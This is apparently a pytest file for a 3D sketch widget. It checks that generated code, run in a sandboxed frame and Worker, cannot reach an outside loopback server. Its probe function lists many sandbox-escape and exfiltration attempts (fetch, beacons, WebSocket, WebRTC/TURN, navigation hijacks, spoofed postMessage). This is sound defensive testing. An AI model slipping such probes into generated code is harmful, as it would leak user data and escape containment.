"""Escape probes: hostile generated code, run in every place that shows 3D, reaches nothing.

Real Chromium. An "outside" HTTP server on a free loopback port records every connection
and request; a UDP socket records every packet (the STUN target of the WebRTC probes). The
probe code tries every way out we know of (docs/preview.md, "Sandbox"): fetch, XHR,
WebSocket, EventSource, images, scripts, CSS, import(), prefetch/preconnect, beacons,
workers, forms, nested frames (with a fresh realm's WebRTC), popups, top and parent
navigation, document.domain, WebRTC, spoofed messages to the host, and last
self-navigation and a meta refresh. It runs in the pad's preview, a notebook Result, the
gallery, the World, a saved .html opened from file:// and the pad's "Download .html" file:
zero hits everywhere, and the frame that tried to navigate is stopped with a clear message.
A positive control runs the same probes in a plain page, to show they do reach the server
when nothing stops them.
"""

from __future__ import annotations

import asyncio
import functools
import http.server
import json
import socket
import threading
import time
from pathlib import Path

import pytest

from tests.browser_support import CHROMIUM, background_pixels_differ, launch_chromium, poll

STATIC = Path(__file__).parent.parent / "vibedraw_widget" / "static"
pytestmark = [
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium"),
    pytest.mark.skipif(not (STATIC / "sketchpad.js").exists(), reason="needs the built bundle"),
    pytest.mark.timeout(300),
]
playwright = pytest.importorskip("playwright.sync_api")


class Outside:
    """Loopback TCP (HTTP) and UDP listeners that record every hit."""

    def __init__(self) -> None:
        hits = self.hits = []
        self.connections = 0

        class Handler(http.server.BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"<h1>outside</h1><script>fetch('/from-outside-page')</script>")

            do_GET = do_POST = do_HEAD = _hit

            def log_message(self, *args: object) -> None:
                pass

        outside = self

        class Server(http.server.ThreadingHTTPServer):
            def get_request(self):  # every TCP connection, even one that never sends a request
                outside.connections += 1
                return super().get_request()

        self.http = Server(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.port = self.http.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.udp_port = self.udp.getsockname()[1]
        self.packets: list[bytes] = []
        self._running = True
        threading.Thread(target=self._receive, daemon=True).start()

    def _receive(self) -> None:
        while self._running:
            try:
                self.packets.append(self.udp.recvfrom(4096)[0])
            except OSError:
                continue

    def reset(self) -> None:
        self.hits.clear()
        self.packets.clear()
        self.connections = 0

    def close(self) -> None:
        self._running = False
        self.http.shutdown()
        self.udp.close()


def probe_code(port: int, udp_port: int) -> str:
    """The body of `build(THREE, ctx)` that tries every way out, each tagged by its path."""
    out = f"http://127.0.0.1:{port}"
    stun = f"stun:127.0.0.1:{udp_port}"
    return f"""
const OUT = {json.dumps(out)};
const ICE = {{ iceServers: [{{ urls: {json.dumps(stun)} }}, {{ urls: "turn:127.0.0.1:{udp_port}",
  username: "exfil", credential: "x" }}] }};
const log = {{}};
const attempt = (name, fn) => {{ try {{ const r = fn(); log[name] = "ran";
  if (r && r.then) r.then(() => (log[name] = "resolved"), (e) => (log[name] = "rejected")); }}
  catch (e) {{ log[name] = "threw " + (e && e.name); }} }};
const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
const rtc = (PC, tag) => {{ const pc = new PC(ICE); pc.createDataChannel(tag);
  pc.createOffer().then((o) => pc.setLocalDescription(o)); return pc; }};
attempt("fetch", () => fetch(OUT + "/fetch"));
attempt("fetch-no-cors", () => fetch(OUT + "/fetch-no-cors", {{ mode: "no-cors" }}));
attempt("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", OUT + "/xhr"); x.send(); }});
attempt("websocket", () => new WebSocket(OUT.replace("http", "ws") + "/ws"));
attempt("eventsource", () => new EventSource(OUT + "/sse"));
attempt("image", () => {{ new Image().src = OUT + "/img"; }});
attempt("img-tag", () => add(`<img src="${{OUT}}/img-tag">`));
attempt("script", () => {{ const s = document.createElement("script"); s.src = OUT + "/script";
  document.head.appendChild(s); }});
attempt("css-link", () => add(`<link rel="stylesheet" href="${{OUT}}/css-link">`));
attempt("css-import", () => add(`<style>@import url("${{OUT}}/css-import");
  body {{ background-image: url("${{OUT}}/css-bg"); }}</style>`));
attempt("font", () => new FontFace("x", `url(${{OUT}}/font)`).load());
attempt("import", () => import(OUT + "/import.js"));
attempt("prefetch", () => add(`<link rel="prefetch" href="${{OUT}}/prefetch">
  <link rel="preload" as="fetch" href="${{OUT}}/preload"><link rel="preconnect" href="${{OUT}}">
  <link rel="dns-prefetch" href="${{OUT}}">`));
attempt("beacon", () => navigator.sendBeacon(OUT + "/beacon", "x"));
attempt("worker", () => new Worker(OUT + "/worker.js"));
attempt("blob-worker", () => new Worker(URL.createObjectURL(new Blob(
  [`fetch("${{OUT}}/blob-worker")`], {{ type: "text/javascript" }}))));
attempt("iframe-src", () => add(`<iframe src="${{OUT}}/iframe"></iframe>`));
attempt("iframe-srcdoc", () =>
  add(`<iframe srcdoc="<script>fetch('${{OUT}}/srcdoc-fetch')</script>"></iframe>`));
attempt("iframe-data", () =>
  add(`<iframe src="data:text/html,<script>new RTCPeerConnection()</script>"></iframe>`));
attempt("object", () =>
  add(`<object data="${{OUT}}/object"></object><embed src="${{OUT}}/embed">`));
attempt("child-realm-rtc", () => {{ const f = document.createElement("iframe");
  document.body.appendChild(f); return rtc(f.contentWindow.RTCPeerConnection, "child"); }});
attempt("child-realm-index", () => rtc(window[window.length - 1].RTCPeerConnection, "index"));
// leaves-page: begin (the positive control cannot run these: they take its page away)
attempt("form", () => {{ add(`<form id="vdform" action="${{OUT}}/form"></form>`);
  document.getElementById("vdform").submit(); }});
attempt("window-open", () => window.open(OUT + "/open"));
attempt("anchor-blank", () => {{ const a = document.createElement("a"); a.href = OUT + "/anchor";
  a.target = "_blank"; document.body.appendChild(a); a.click(); }});
attempt("top-location", () => {{ top.location = OUT + "/top"; }});
attempt("parent-location", () => {{ parent.location.href = OUT + "/parent"; }});
attempt("anchor-top", () => {{ const a = document.createElement("a"); a.href = OUT + "/anchor-top";
  a.target = "_top"; document.body.appendChild(a); a.click(); }});
// leaves-page: end
attempt("document-domain", () => {{ document.domain = "127.0.0.1";
  return parent.document.title; }});
attempt("webrtc", () => rtc(RTCPeerConnection, "rtc"));
attempt("webrtc-webkit", () => rtc(webkitRTCPeerConnection, "webkit"));
attempt("webrtc-restore", () => {{ delete window.RTCPeerConnection;
  Object.defineProperty(window, "RTCPeerConnection", {{ value: function () {{}} }}); }});
attempt("spoof", () => {{ for (const w of [parent, top, parent.parent]) {{
  w.postMessage({{ type: "error", id: 1, phase: "build", message: "SPOOFED" }}, "*");
  w.postMessage({{ type: "frame", id: 1, ms: 1, secret: "guess" }}, "*");
  w.postMessage({{ type: "navigated", message: "SPOOFED", secret: "" }}, "*"); }} }});
attempt("spoof-worker", () =>
  postMessage({{ type: "error", id: 1, phase: "build", message: "SPOOFED" }}));
attempt("spoof-self", () => self.postMessage({{ type: "report", message: "SPOOFED" }}));
attempt("import-scripts", () => importScripts(OUT + "/import-scripts.js"));
attempt("webtransport", () => new WebTransport("https://127.0.0.1:{port}/wt").ready);
attempt("nested-worker", () => new Worker(URL.createObjectURL(new Blob([`fetch("${{OUT}}/nested");
  new WebSocket("${{OUT.replace("http", "ws")}}/nested-ws");`], {{ type: "text/javascript" }}))));
// probe: end (the positive control stops here)
// leaves-page: begin (the positive control cannot run these: they take its page away)
attempt("meta-refresh", () => add(`<meta http-equiv="refresh" content="0;url=${{OUT}}/meta">`));
attempt("self-navigation", () => {{ location.href = OUT + "/nav"; }});
attempt("location-replace", () => location.replace(OUT + "/replace"));
attempt("location-assign", () => location.assign(OUT + "/assign"));
// leaves-page: end
await new Promise((resolve) => setTimeout(resolve, 2500)); // late attempts: ICE, retries
const probe = new THREE.Mesh(new THREE.BoxGeometry(1, 1, 1), new THREE.MeshStandardMaterial());
probe.name = "probe " + JSON.stringify(log); // the test reads it through the page
return probe;
"""


PAD = """<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="sketchpad.css"></head><body>
<div id="host" style="width:1000px"></div>
<script type="module">
import widget from "./sketchpad.js";
const state = JSON.parse(document.getElementById("state").textContent);
const handlers = {};
const model = {
  get: (k) => state[k],
  set: (k, v) => { state[k] = v; (handlers["change:" + k] || []).forEach((f) => f()); },
  on: (e, f) => (handlers[e] ||= []).push(f),
  off: (e, f) => { handlers[e] = (handlers[e] || []).filter((g) => g !== f); },
  save_changes() {}, send() {},
};
window.model = model;
widget.initialize({ model });
widget.render({ model, el: document.getElementById("host") });
window.showCode = (code) => { model.set("code", code); model.set("result_kind", "code");
  model.set("result_version", (state.result_version || 0) + 1); };
</script>
<script id="state" type="application/json">STATE</script></body></html>"""

WORLD = """<!doctype html><html><body><div id="host"></div><script type="module">
import widget from "./world.js";
const state = JSON.parse(document.getElementById("state").textContent);
const listeners = {};
window.sent = [];
const model = {
  get: (k) => state[k],
  set: (k, v) => { state[k] = v; (listeners["change:" + k] || []).forEach(f => f()); },
  save_changes() {}, on: (e, f) => (listeners[e] ||= []).push(f), off() {},
  send(content) { window.sent.push(content); },
};
widget.render({ model, el: document.getElementById("host") });
</script>
<script id="state" type="application/json">STATE</script></body></html>"""


def pad_state() -> dict:
    """A SketchPad's synced state, as a stand-in model holds it (no kernel, no server)."""
    return {
        "sketch": {"version": 1, "width": 640, "height": 480, "background": "#ffffff",
                   "strokes": [], "texts": []},
        "prompt": "", "provider": "", "model_provider": "", "transport": "kernel",
        "status": "idle", "progress": 0, "message": "", "code": "", "error": "",
        "task_id": "", "task_type": "", "task_transport": "", "last_event_id": 0,
        "result_kind": "", "result_version": 0, "glb_url": "", "connection": "connecting",
        "providers": [], "can_undo": False, "can_redo": False,
    }  # fmt: skip


def write_pages(root: Path, code: str) -> None:
    """The host ("notebook") origin's pages: the pad, a Result, the gallery, the World."""
    from vibedraw_widget.result import Result
    from vibedraw_widget.viewer import gallery
    from vibedraw_widget.world import World

    for name in ("sketchpad.js", "sketchpad.css", "world.js"):
        (root / name).write_bytes((STATIC / name).read_bytes())
    (root / "pad.html").write_text(PAD.replace("STATE", json.dumps(pad_state())))
    probe = Result(kind="code", status="completed", source="probe", code=code)
    body = "<!doctype html><html><body>{}</body></html>"
    (root / "result.html").write_text(body.format(probe._repr_html_()))
    (root / "gallery.html").write_text(body.format(gallery([probe])._repr_html_()))
    world = World()
    world.add(code, label="probe")
    state = {k: world.get_state()[k] for k in ("objects", "view", "mode", "selected", "height")}
    state.update(_page=world._page, glbs={})
    (root / "world.html").write_text(
        WORLD.replace("STATE", json.dumps(state).replace("<", "\\u003c"))
    )
    probe.save(root / "saved.html")


def serve(directory: Path) -> http.server.ThreadingHTTPServer:
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(directory))
    handler.log_message = lambda *args: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(autouse=True)
def jp_asyncio_loop():
    """A loop of its own: playwright's sync API keeps its loop current and running for the
    module's one browser, and pytest-jupyter would close the current loop after each test."""
    loop = asyncio.new_event_loop()
    yield loop
    loop.close()


@pytest.fixture(scope="module")
def outside():
    server = Outside()
    yield server
    server.close()


@pytest.fixture(scope="module")
def site(outside, tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    write_pages(root, probe_code(outside.port, outside.udp_port))
    server = serve(root)
    yield root, f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as p:
        chromium = launch_chromium(p)
        yield chromium
        chromium.close()


SETTLE_S = 3.0
"""Time for late attempts to show after the probe has returned: retries, refresh timers."""

STATE = "() => window.vibedraw ? window.vibedraw.state() : null"


def probe_log(page) -> dict | None:
    """The probe's log, from the name of the object it returned, once a scene holds it."""
    for frame in page.frames:
        try:
            state = frame.evaluate(STATE)
        except playwright.Error:
            continue  # detached meanwhile
        for name in (state or {}).get("objects", []):
            if name.startswith("probe "):
                return json.loads(name[len("probe ") :])
    return None


def run_surface(surface: str, browser, site, outside):
    """Load one surface and let the probe run: its log and the page."""
    root, url = site
    page = browser.new_page(viewport={"width": 1100, "height": 900})
    outside.reset()
    if surface == "pad":
        page.goto(url + "pad.html")
        page.wait_for_function("() => document.querySelector('.vd-preview-frame')")
        page.evaluate("code => window.showCode(code)", (root / "probe.js").read_text())
    elif surface == "saved-file":
        page.goto((root / "saved.html").as_uri())
    elif surface == "pad-download":
        # The pad's "Download .html" of the probe's result, opened from disk.
        page.goto(url + "pad.html")
        page.wait_for_function("() => document.querySelector('.vd-preview-frame')")
        page.evaluate("code => window.showCode(code)", (root / "probe.js").read_text())
        with page.expect_download() as download:
            page.get_by_role("button", name="Download .html").click()
        saved = root / "downloaded.html"
        download.value.save_as(saved)
        page.goto("about:blank")
        outside.reset()  # the pad ran the probe too: only what the file does counts
        page.goto(saved.as_uri())
    else:
        page.goto(url + f"{surface}.html")
    log = poll(lambda: probe_log(page), timeout=60)
    assert log is not None, f"the probe never ran on {surface}"
    time.sleep(SETTLE_S)  # late attempts: retries, refresh timers
    return log, page


SURFACES = ["pad", "result", "gallery", "world", "saved-file", "pad-download"]
NO_DOM = ("iframe-src", "iframe-srcdoc", "object", "prefetch", "img-tag", "script", "form",
          "window-open", "top-location", "parent-location", "document-domain", "spoof",
          "meta-refresh", "child-realm-rtc")  # fmt: skip


@pytest.mark.parametrize("surface", SURFACES)
def test_hostile_code_reaches_nothing_outside(surface, browser, site, outside):
    root, _ = site
    (root / "probe.js").write_text(probe_code(outside.port, outside.udp_port))
    log, page = run_surface(surface, browser, site, outside)
    # Generated code runs in a Worker: no DOM, no window to navigate, no WebRTC, and no
    # postMessage of its own to speak to the page with (docs/preview.md, "Sandbox").
    for name in NO_DOM:
        assert log[name].startswith("threw"), (name, log[name])
    for name in ("webrtc", "webrtc-webkit", "spoof-worker", "spoof-self", "location-replace"):
        assert log[name].startswith("threw"), (name, log[name])
    assert outside.hits == [], f"{surface}: requests reached the outside server"
    assert outside.connections == 0, f"{surface}: {outside.connections} connections"
    assert outside.packets == [], f"{surface}: UDP packets reached the STUN target"

    # The probe's own result still shows, and no spoofed message got through.
    if surface == "pad":
        assert not page.evaluate("window.model.get('error')")
        frames = page.evaluate("document.querySelector('.vd-preview').dataset.frames")
        assert int(frames or 0) > 0
    elif surface == "world":
        sent = page.evaluate("window.sent")
        assert not any("SPOOFED" in str(m) for m in sent), sent
    else:
        on_disk = surface in ("saved-file", "pad-download")
        shell = page.main_frame if on_disk else page.frames[1]
        assert poll(lambda: shell.evaluate("document.body.dataset.status") == "ready", 10)
        shown = [f.evaluate("document.body.innerText") for f in page.frames]
        assert not any("SPOOFED" in text for text in shown), shown
    page.close()


def test_the_probes_do_reach_the_outside_when_nothing_stops_them(browser, outside, tmp_path):
    """Positive control: the same code as a plain script of an http page."""
    code = probe_code(outside.port, outside.udp_port)
    code = code.split("// probe: end")[0]
    code = code.split("// leaves-page: begin")[0] + code.split("// leaves-page: end")[1]
    (tmp_path / "control.js").write_text(f"(async () => {{{code}}})();")
    (tmp_path / "control.html").write_text(
        '<!doctype html><html><body><script src="control.js"></script></body></html>'
    )
    server = serve(tmp_path)
    page = browser.new_page()
    outside.reset()
    expected = {"/fetch", "/xhr", "/img", "/script", "/css-link", "/beacon"}

    def paths() -> set[str]:
        return {hit.split()[1] for hit in list(outside.hits)}

    try:
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/control.html")
        poll(lambda: outside.packets and expected <= paths(), timeout=30)
    finally:
        page.close()
        server.shutdown()
    assert expected <= paths(), paths()
    assert outside.packets, "no UDP packet: the STUN probe proves nothing"


def test_a_saved_page_still_shows_its_model_offline(tmp_path, browser):
    from vibedraw_widget.result import Result

    code = (
        "return new THREE.Mesh(new THREE.BoxGeometry(1, 1, 1),"
        " new THREE.MeshStandardMaterial({ color: 'red' }));"
    )
    path = Result(kind="code", status="completed", source="box", code=code).save(
        tmp_path / "b.html"
    )
    page = browser.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(path.as_uri())
    assert poll(lambda: page.evaluate("document.body.dataset.status") == "ready")
    runtime = page.frames[1]
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    assert len(runtime.evaluate(STATE)["objects"]) == 1
    # The page itself, and the runtime's Worker, made from the runtime's own text:
    assert all(url.startswith(("file://", "about:", "blob:null/")) for url in requests), requests
    page.wait_for_timeout(300)
    assert background_pixels_differ(page.screenshot()) > 500, "the page drew nothing"
    page.close()
